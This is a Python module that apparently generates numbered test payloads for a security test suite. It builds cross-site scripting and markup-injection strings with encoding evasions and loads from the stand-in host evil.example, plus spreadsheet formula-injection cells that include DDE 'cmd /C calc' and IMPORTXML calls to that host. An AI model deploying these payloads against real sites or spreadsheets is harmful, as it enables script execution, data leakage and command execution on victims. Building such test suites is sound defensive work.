"""A thousand attacks, made by rule: markup that would run or load something, and cells that a spreadsheet would reckon.

Each carries its own number, so that what got through can be named. They are made of ways out of where a text may stand,
ways to run or to load, and ways to write the same; and of what formulas begin with.
"""

from itertools import cycle, islice, product

#: Ways out of where a text may stand on a page: between tags, in an attribute, in a form's field, in a comment, in SVG.
OUT = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</select>",
    "</svg>",
    "-->",
    "]]>",
    "</q></p></li></table>",
    '\\">',
    "</text></svg>",
)
#: Ways to run; `@` is where the attack's number goes.
RUN = (
    "<script>window.ran=@</script>",
    "<ScRiPt >window.ran=@</sCrIpT>",
    "<img src=x onerror=window.ran=@>",
    "<img/src=x/onerror=window.ran=@>",
    "<svg onload=window.ran=@>",
    "<svg><script>window.ran=@</script></svg>",
    "<svg><animate onbegin=window.ran=@ attributeName=x dur=1s>",
    "<body onload=window.ran=@>",
    "<details open ontoggle=window.ran=@>",
    "<input autofocus onfocus=window.ran=@>",
    "<video><source onerror=window.ran=@></video>",
    "<iframe srcdoc='<script>parent.ran=@</script>'></iframe>",
    "<iframe src=javascript:parent.ran=@></iframe>",
    "<object data=javascript:window.ran=@></object>",
    "<math><mtext></mtext><script>window.ran=@</script></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=@>'>",
    "<template><script>window.ran=@</script></template>",
    "<a href=javascript:window.ran=@>x</a>",
    "<form action=javascript:window.ran=@><button>x</button></form>",
    "onmouseover=window.ran=@ autofocus onfocus=window.ran=@ x=",
    "hx-on:load=window.ran=@ data-hx-on:click=window.ran=@ hx-trigger=load",
    "<p hx-get=/leave hx-trigger=load hx-vals='js:{a:window.ran=@}'>",
    "{{ window.ran=@ }}{% raise %}${window.ran=@}#{window.ran=@}",
    "javascript:window.ran=@//",
)
#: Ways to load, or to lead, away from the page.
LOAD = (
    "<img src=//evil.example/@>",
    "<link rel=stylesheet href=https://evil.example/@.css>",
    "<style>@import 'https://evil.example/@';</style>",
    "<p style='background:url(https://evil.example/@)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/@'>",
    "<base href=https://evil.example/@/>",
    "<script src=https://evil.example/@.js></script>",
    "<iframe src=https://evil.example/@></iframe>",
    "<audio src=https://evil.example/@ autoplay></audio>",
    "<svg><image href=https://evil.example/@ /></svg>",
    "<link rel=preconnect href=https://evil.example>",
    "<form action=https://evil.example/@ ><input name=q>",
)
#: Ways to write the same.
WAYS = (
    lambda text: text,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "\u202e<").replace("=", "\u2028=", 1),
    lambda text: text.replace("<", "<\x00").replace(" ", "\t"),
    lambda text: text.replace("<", "＜") + text,
    lambda text: text.replace("<", "%3C") + text.upper().replace("WINDOW.RAN", "window.ran"),
)
#: What a spreadsheet takes for a formula, and what may stand before it.
FORMULAS = (
    '=HYPERLINK("https://evil.example/@","x")',
    "=cmd|' /C calc'!A@",
    "+SUM(1,@)",
    "-2+@+cmd|' /C calc'!A0",
    "@SUM(A1:A@)",
    "=IMPORTXML(\"https://evil.example/@\",\"//a\")",
    "\t=1+@",
    "\r=1+@",
    "＝1+@",
)  # fmt: skip
BEFORE = ("", " ", "\ufeff", "\u200b", '"', "'", ";", ",", "\n", 'x"\n')


def payloads(number: int = 1000) -> list[str]:
    """So many attacks, a third of them formulas; the same each time."""
    runs = (way(out + run) for run, way, out in product(RUN + LOAD, WAYS, OUT))
    cells = (before + formula for before, formula in product(BEFORE, FORMULAS))
    runs, cells = list(runs), list(cells)
    # Taken at even steps, so that every way to run, to write and out is among few as among many.
    many = number - number // 3
    step = len(runs) / many
    markup = [runs[int(n * step)] for n in range(many)]
    formulas = list(islice(cycle(cells), number - many))
    mixed = [one for pair in zip(markup[::2], markup[1::2], formulas, strict=False) for one in pair]
    mixed += markup[2 * len(formulas) :]
    mixed = (mixed + formulas[len(mixed) :])[:number]
    return [one.replace("@", str(1000 + n)) for n, one in enumerate(mixed)]


def reckoned(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula; a number with its sign is none."""
    bare = cell.lstrip(" \ufeff\u200b")
    if not bare or bare[0] not in "=+-@\t\r＝＋－＠":
        return False
    return not bare.lstrip("+-").replace(".", "", 1).replace("e-", "").isdigit()
